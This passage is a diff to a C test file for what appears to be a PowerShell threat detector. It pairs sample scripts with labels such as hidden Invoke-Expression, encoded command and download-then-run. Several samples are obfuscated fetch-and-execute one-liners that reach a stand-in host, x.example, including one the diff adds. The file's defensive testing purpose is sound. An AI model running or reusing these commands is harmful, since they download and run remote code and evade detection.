@@ -56,6 +56,7 @@ static void scripts(void **state)
 	        {".('{1}{0}' -f 'ex','i') $x", HIDES},
 	        {"& ($pshome[21]+$pshome[30]+'x') $x", HIDES},
 	        {"& (gcm *ke-Ex*) $x", HIDES},
+	        {"$x = 'i' + 'ex'\n& $x (irm https://x.example/i)", HIDES | FETCHED},
 	        {"powershell -nop -w hidden -enc " COMMAND, ENCODED},
 	        {"Start-Process powershell -ArgumentList \"-NoP -EncodedCommand " COMMAND "\"", ENCODED},
 	        {"$f = \"$env:TEMP\\a.exe\"\n(New-Object Net.WebClient).DownloadFile('http://x.example/a', $f)\nStart-Process $f", STARTS},
@@ -75,6 +76,7 @@ static void scripts(void **state)
 	        {"& (Join-Path $PSScriptRoot 'build.ps1') -Target a", 0},
 	        {"& ('{0}\\{1}' -f $dir, 'tool.exe') x", 0},
 	        {"powershell -NoProfile -EncodedCommand $encoded", 0},
+	        {"$x = 'i' + 'ex'\n$x\n& $y $x", 0},
 	        {"powershell -EncodedCommand " PLAIN, 0},
 	        {"iwr https://x.example/a.msi -OutFile $f\nStart-Process $f", 0},
 	        {"iwr https://x.example/a.exe -OutFile $f\nif ((Get-FileHash $f).Hash -ne $h) { throw }\nStart-Process $f -WindowStyle "
